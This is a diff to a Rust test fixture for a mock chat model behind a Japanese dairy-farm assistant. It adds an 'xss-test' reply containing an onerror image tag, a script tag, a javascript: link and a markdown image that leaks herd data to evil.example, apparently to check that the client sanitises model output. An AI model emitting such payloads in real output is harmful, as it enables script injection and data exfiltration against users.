@@ -9,6 +9,7 @@
 //! | `999番` | calls `cow_health {"cow":"999"}` (an error comes back), then says so |
 //! | `unknown-tool` | calls `delete_herd`, then answers |
 //! | `talk-to-person` | calls `contact_support`, then answers |
+//! | `xss-test` | answers with markup, a script, a `javascript:` link and an image |
 //! | `rate-limit` | 429 |
 //! | `unavailable` | 503 |
 //! | `stall` | one delta, then silence until the client gives up |
@@ -42,6 +43,10 @@ pub enum Wire {
 
 /// The markdown answer of the `14番` script, as the model streams it.
 pub const HEALTH_ANSWER: &str = "## 14番の様子\n\n乳量は**少し低め**ですが、活動量は正常です。\n\n- 体温を朝夕に測る\n- 飼料の食べ残しを確認\n\n| 項目 | 状態 |\n|---|---|\n| 乳量 | 低め |\n| 活動 | 正常 |\n\n詳しくは <https://example.jp/help> を。";
+
+/// What the `xss-test` script writes: markup, script, a `javascript:` link and an image whose
+/// URL would leak data. None of it may become live markup or a fetch.
+pub const XSS_ANSWER: &str = "注意:\n\n<img src=x onerror=\"window.__xss=1\">\n\n<script>window.__xss=2</script>\n\n[ここをクリック](javascript:window.__xss=3)\n\n![牛の写真](https://evil.example/leak.png?herd=demo-farm)\n\n[安全なリンク](https://example.jp/safe)";
 
 /// The greeting of the default script.
 pub const GREETING: &str = "こんにちは。牧場のことなら何でも聞いてください。";
@@ -189,6 +194,7 @@ fn script(body: &str, wire: Wire) -> Step {
         "cow 14",
         "unknown-tool",
         "talk-to-person",
+        "xss-test",
     ];
     let word = words
         .iter()
@@ -223,6 +229,7 @@ fn script(body: &str, wire: Wire) -> Step {
             Some(("cow_health", "{\"cow\":\"14\"}".to_owned(), HEALTH_ANSWER))
         }
         Some("unknown-tool") => Some(("delete_herd", "{}".to_owned(), "その操作はできません。")),
+        Some("xss-test") => return Step::Text(pieces(XSS_ANSWER, 7), fast),
         Some(_) => Some((
             "contact_support",
             "{\"summary\":\"14番の咳が続いています。往診を相談したい。\"}".to_owned(),
